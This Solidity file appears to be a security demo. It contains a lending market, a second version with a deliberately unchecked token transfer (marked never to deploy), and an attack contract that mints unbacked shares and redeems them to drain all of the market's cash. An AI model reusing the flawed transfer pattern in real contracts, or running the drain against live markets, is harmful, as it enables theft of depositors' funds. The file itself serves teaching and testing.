// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";

/// @title A lending market for use behind a proxy: suppliers hold shares, borrowers owe, and shares are collateral.
contract DemoMarket is ERC20 {
    using SafeERC20 for IERC20;

    /// @notice Most that may be borrowed against shares, per cent of their worth.
    uint256 public constant LIMIT = 80;

    IERC20 internal _asset;
    uint256 public totalBorrows;
    mapping(address borrower => uint256 amount) public debtOf;

    error TooMuchDebt(uint256 most, uint256 got);

    constructor() ERC20("Demo market share", "dmUSD") {}

    function setUp(IERC20 asset_) external {
        if (address(_asset) == address(0)) _asset = asset_;
    }

    function supply(uint256 amount) external returns (uint256 shares) {
        uint256 all = totalSupply();
        shares = all == 0 ? amount : amount * all / totalAssets();
        _pull(amount);
        _mint(msg.sender, shares);
    }

    function redeem(uint256 shares) external returns (uint256 amount) {
        amount = shares * totalAssets() / totalSupply();
        _burn(msg.sender, shares);
        _asset.safeTransfer(msg.sender, amount);
        _check(msg.sender);
    }

    function borrow(uint256 amount) external {
        debtOf[msg.sender] += amount;
        totalBorrows += amount;
        _asset.safeTransfer(msg.sender, amount);
        _check(msg.sender);
    }

    function repay(uint256 amount) external {
        debtOf[msg.sender] -= amount;
        totalBorrows -= amount;
        _pull(amount);
    }

    function getCash() public view returns (uint256) {
        return _asset.balanceOf(address(this));
    }

    function totalAssets() public view returns (uint256) {
        return getCash() + totalBorrows;
    }

    function _pull(uint256 amount) internal virtual {
        _asset.safeTransferFrom(msg.sender, address(this), amount);
    }

    function _check(address borrower) private view {
        uint256 debt = debtOf[borrower];
        if (debt == 0) return;
        uint256 most = balanceOf(borrower) * totalAssets() / totalSupply() * LIMIT / 100;
        require(debt <= most, TooMuchDebt(most, debt));
    }
}

/// @title The second version, which saves gas where tokens come in.
/// @dev Wrong on purpose: it never looks whether the transfer went through, so that shares can be had for nothing.
///      Never deploy it where money is.
contract DemoMarketV2 is DemoMarket {
    function _pull(uint256 amount) internal override {
        bytes memory data = abi.encodeCall(IERC20.transferFrom, (msg.sender, address(this), amount));
        address token = address(_asset);
        assembly ("memory-safe") {
            pop(call(gas(), token, 0, add(data, 32), mload(data), 0, 0))
        }
    }
}

/// @title Supplies what it does not have, and redeems the shares for all the cash there is.
contract DemoMarketAttack {
    using SafeERC20 for IERC20;

    DemoMarket private immutable _market;
    IERC20 private immutable _asset;
    address private immutable _owner;

    constructor(DemoMarket market, IERC20 asset_) {
        (_market, _asset, _owner) = (market, asset_, msg.sender);
    }

    function attack() external {
        uint256 cash = _market.getCash();
        // As many shares as are worth the cash once they are there; rounded up, so that nothing is left behind.
        uint256 amount = Math.ceilDiv(cash * _market.totalAssets(), _market.totalAssets() - cash);
        uint256 shares = _market.supply(amount);
        _market.redeem(shares);
        _asset.safeTransfer(_owner, _asset.balanceOf(address(this)));
    }
}
